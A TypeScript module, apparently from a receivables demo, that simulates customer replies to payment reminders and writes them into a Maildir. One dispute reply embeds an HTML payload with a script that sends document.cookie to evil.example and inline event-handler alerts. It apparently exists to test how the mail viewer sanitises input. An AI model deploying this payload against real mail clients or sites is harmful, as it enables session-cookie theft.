import { toMajor } from '../core/money'
import { mkdirSync, renameSync, writeFileSync } from 'node:fs'
import { createHash } from 'node:crypto'
import { join } from 'node:path'
import MailComposer from 'nodemailer/lib/mail-composer'
import { addBankWorkingDays, addDays, type IsoDate } from '../core/calendar'
import type { Answerable } from '../server/ports/mailIn'
import { chance, type Chance } from './chance'

/*
 * The customers' side of the mail: a day after a letter some of them answer, each in its own way. Their mails
 * are put into a Maildir, as a mail server would.
 */

const date = (day: IsoDate) => {
  const [y, m, d] = day.split('-').map(Number)
  return `${d} ${['January', 'February', 'March', 'April', 'May', 'June', 'July', 'August', 'September', 'October', 'November', 'December'][m! - 1]} ${y}`
}
const german = (day: IsoDate) => day.split('-').reverse().join('.')
/** An amount as people write it, `1,234.50`; yen have no cents. */
const major = ({ open, currency }: { open: number; currency: string }): string =>
  toMajor(open, currency).replace(/\B(?=(\d{3})+(?!\d))/g, ',')

interface Said {
  text: string
  html?: string
  from?: string
  headers?: Record<string, string>
  subject?: string
}

function promised(letter: Answerable, day: IsoDate, draw: Chance): Said {
  const on = addBankWorkingDays(day, draw.whole(3, 10))
  const [item] = letter.items
  if (letter.language === 'de')
    return {
      text: `Guten Tag,\n\nwir überweisen ${item ? item.number : 'den Betrag'} am ${german(on)}.\n\n${letter.contact}`,
    }
  return {
    text: draw.pick([
      `Hello,\n\n${item ? `invoice ${item.number} will be paid on ${date(on)}` : `payment will go out on ${date(on)}`}.\n\nRegards\n${letter.contact}`,
      `Hi,\nsorry for the delay. We will pay ${item ? `${item.currency} ${major(item)}` : 'it all'} on ${date(on)}, the rest by month end.\n${letter.contact}`,
    ]),
  }
}

function disputed(letter: Answerable, draw: Chance): Said {
  const number = letter.items[0]?.number ?? ''
  const [first, html] = draw.pick([
    [`Half of the pallets of ${number} came wet. We do not pay before this is settled.`, ''],
    [`The price on ${number} is wrong, we agreed on less in spring. Please correct it.`, ''],
    [
      `${number}: two bags are missing.`,
      `<p onclick="alert(1)">${number}: two bags are <b>missing</b>.</p><script>fetch('https://evil.example/'+document.cookie)</script><img src="https://evil.example/p.gif" onerror="alert(2)">`,
    ],
  ])
  return { text: `Dear all,\n\n${first}\n\n${letter.contact}`, ...(html ? { html } : {}) }
}

/** What one customer answers; null: nothing, as most. */
function answerOf(letter: Answerable, day: IsoDate, draw: Chance): Said | null {
  const at = draw.next()
  const number = letter.items[0]?.number
  const domain = letter.to.split('@')[1] ?? 'customer.example'
  if (at < 0.14) return promised(letter, day, draw)
  if (at < 0.22) return disputed(letter, draw)
  if (at < 0.3)
    return {
      text: `Hello,\ncould you send a copy of ${number ?? 'the invoice'}? We never received the invoice.\nThanks, ${letter.contact}`,
      // Some write from the address of a colleague, and begin a mail of their own.
      ...(draw.happens(0.4)
        ? { from: `purchase@${domain}`, subject: `Invoice ${number ?? ''}`, headers: { 'x-own': '1' } }
        : {}),
    }
  if (at < 0.36)
    return {
      text: `I am out of the office until ${date(addDays(day, draw.whole(2, 12)))}.`,
      subject: `Automatic reply: ${letter.subject}`,
      headers: { 'Auto-Submitted': 'auto-replied' },
    }
  if (at < 0.4)
    return { text: `I am no longer responsible for this. Please write to payables@${domain} instead.` }
  return null
}

const compose = (options: ConstructorParameters<typeof MailComposer>[0]): Promise<Buffer> =>
  new Promise((resolve, reject) =>
    new MailComposer(options).compile().build((error, message) => (error ? reject(error) : resolve(message))),
  )

/** A report that a letter could not be delivered (RFC 3464). */
function bounced(letter: Answerable, day: IsoDate): string {
  return [
    `From: MAILER-DAEMON@mx.${letter.to.split('@')[1]}`,
    `To: ${letter.from}`,
    `Subject: Undelivered Mail Returned to Sender`,
    `Date: ${new Date(`${day}T07:12:00Z`).toUTCString()}`,
    `Message-ID: <bounce.${letter.messageId}>`,
    'Auto-Submitted: auto-replied',
    'MIME-Version: 1.0',
    'Content-Type: multipart/report; report-type=delivery-status; boundary="b1"',
    '',
    '--b1',
    'Content-Type: text/plain; charset=utf-8',
    '',
    `Your message could not be delivered to <${letter.to}>: mailbox unavailable.`,
    '',
    '--b1',
    'Content-Type: message/delivery-status',
    '',
    'Reporting-MTA: dns; mx.example',
    '',
    `Final-Recipient: rfc822; ${letter.to}`,
    'Action: failed',
    'Status: 5.1.1',
    'Diagnostic-Code: smtp; 550 5.1.1 mailbox unavailable',
    '',
    '--b1',
    'Content-Type: text/rfc822-headers',
    '',
    `Message-ID: <${letter.messageId}>`,
    `Subject: ${letter.subject}`,
    '',
    '--b1--',
    '',
  ].join('\r\n')
}

/** Puts the answers to some letters into a Maildir. The same letters on the same day bring nothing twice. */
export async function answerLetters(
  folder: string,
  day: IsoDate,
  letters: readonly Answerable[],
): Promise<number> {
  for (const part of ['new', 'cur', 'tmp']) mkdirSync(join(folder, part), { recursive: true })
  let answered = 0
  for (const letter of letters) {
    // By who answers what, so that the same demo brings the same mail.
    const draw = chance(`answer ${letter.to} ${letter.subject} ${day}`)
    const isBounced = draw.happens(0.03)
    const said = isBounced ? null : answerOf(letter, day, draw)
    if (!isBounced && said === null) continue
    const own = said?.headers?.['x-own'] === '1'
    const raw = isBounced
      ? Buffer.from(bounced(letter, day))
      : await compose({
          from: { name: letter.contact || letter.customer, address: said!.from ?? letter.to },
          to: letter.from,
          subject: said!.subject ?? `Re: ${letter.subject}`,
          text: own ? said!.text : `${said!.text}\n\n> ${letter.subject}`,
          html: said!.html,
          messageId: `<answer.${createHash('sha256').update(letter.messageId).digest('hex').slice(0, 20)}@customer.example>`,
          ...(own ? {} : { inReplyTo: `<${letter.messageId}>` }),
          date: new Date(`${day}T08:30:00Z`),
          headers: own ? {} : said!.headers,
        })
    const name = `${day.replace(/-/g, '')}.${createHash('sha256').update(letter.messageId).digest('hex').slice(0, 16)}`
    writeFileSync(join(folder, 'tmp', name), raw)
    renameSync(join(folder, 'tmp', name), join(folder, 'new', name))
    answered++
  }
  return answered
}
